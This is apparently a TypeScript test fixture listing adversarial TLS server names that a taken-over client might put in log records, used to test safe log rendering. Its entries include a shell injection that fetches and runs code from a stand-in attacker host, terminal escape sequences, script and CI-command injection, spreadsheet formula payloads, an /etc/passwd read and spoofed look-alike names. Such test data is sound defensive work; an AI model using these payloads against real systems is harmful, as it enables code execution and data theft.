/**
 * What an attacker who has taken over a client might send. A name in a log line is the SNI as the client wrote it: any text at
 * all. Each aims at one thing that reads logs: a terminal, a CI runner, a page, a spreadsheet, a YAML file, the reader.
 */
import type { FlowProtocol } from "../../../src/traffic/flow.ts";

export interface Attack {
  readonly technique: string;
  /** Whose client it comes from: any client's where it is left out. */
  readonly app?: string;
  /** `undefined`: the record has no `dhost`. */
  readonly name: string | undefined;
  readonly protocol: FlowProtocol;
  /** As the record has it, where it differs from `protocol`. */
  readonly protocolText?: string;
  readonly version?: string;
  readonly port: number;
}

const tls = (technique: string, name: string, port = 443): Attack => ({ technique, name, protocol: "tls", port });

export const attacks: readonly Attack[] = [
  tls("exfiltration", "c2h1dHRsZQ.drop.attacker.example"),
  tls("terminal colors", "\u001b[31;1mallowed\u001b[0m.attacker.example"),
  tls("terminal title", "\u001b]0;owned\u0007.attacker.example"),
  tls("terminal rewrites the line", "blocked.example\rapi.stripe.com"),
  tls("eight-bit control", "\u009b2Jattacker.example"),
  tls("reordering", "\u202emoc.epirts.ipa\u202c.attacker.example"),
  tls("zero width", "api\u200b.stripe\u200b.com"),
  tls("look-alike letters", "\u0430pi.str\u0456pe.com"),
  tls("punycode look-alike", "xn--strpe-x4d.example"),
  tls("page script", "</script><script>alert(1)</script>.attacker.example"),
  tls("page attribute", "\"onmouseover='alert(1)'.attacker.example"),
  tls("CI command", "::error::attacker.example"),
  tls("CI command on a line of its own", "x.example\n::set-output name=ok::true"),
  tls("CI command of Azure", "##vso[task.setvariable variable=x]y.example"),
  tls("separator of an annotation", "api.stripe.com,evil.attacker.example"),
  tls("separator of a spreadsheet", "x.example;\t|,evil.example"),
  tls("formula", '=HYPERLINK("http://attacker.example","x")'),
  tls("formula of another kind", "@SUM(1+1)*cmd|' /C calc'!A0"),
  tls("Markdown", "[click](https://attacker.example)|`x`|<img src=x>"),
  tls("YAML", "x.example: &a [*a]\n  - allow: '*'"),
  tls("Terraform template", `\${file("/etc/passwd")}.attacker.example`),
  tls("shell", "$(curl attacker.example|sh)`id`.example"),
  tls("placeholder of ours", "ec2.{region}.amazonaws.com"),
  tls("wildcard as a name", "*.attacker.example"),
  tls("path", "../../../../etc/passwd"),
  tls("prototype", "__proto__"),
  tls("very long", `${"a".repeat(63)}.${"b".repeat(4000)}.attacker.example`),
  tls("one label", "localhost"),
  tls("lone surrogate", "x\ud800y.example"),
  tls("null character", "api.stripe.com\u0000.attacker.example"),
  tls("quotes and backslashes", '\\"x\\\\\u0022.attacker.example'),
  tls("upper case and a trailing dot", "WWW.Attacker.EXAMPLE."),
  tls("allowed name as a part", "api.stripe.com.attacker.example"),
  tls("address", "198.51.100.77"),
  tls("address of IPv6", "2001:db8::77"),
  tls("metadata service", "169.254.169.254"),
  tls("another port", "c2.attacker.example", 8443),
  { technique: "old TLS", name: "legacy.attacker.example", protocol: "tls", version: "1.0", port: 443 },
  { technique: "plain HTTP", name: "plain.attacker.example", protocol: "http", port: 80 },
  { technique: "plain HTTP on the port of TLS", name: "plain.attacker.example", protocol: "http", port: 443 },
  { technique: "unknown protocol", name: undefined, protocol: "unknown", port: 443 },
  { technique: "unknown protocol to an address", name: "203.0.113.200", protocol: "unknown", port: 6667 },
  {
    technique: "unknown protocol",
    name: undefined,
    protocol: "unknown",
    protocolText: "quic?\u001b[2J",
    port: 443,
  },
  { technique: "tunnel", name: "tunnel.attacker.example", protocol: "ssh", port: 22 },
  { technique: "tunnel on the port of TLS", name: "tunnel.attacker.example", protocol: "ssh", port: 443 },
];
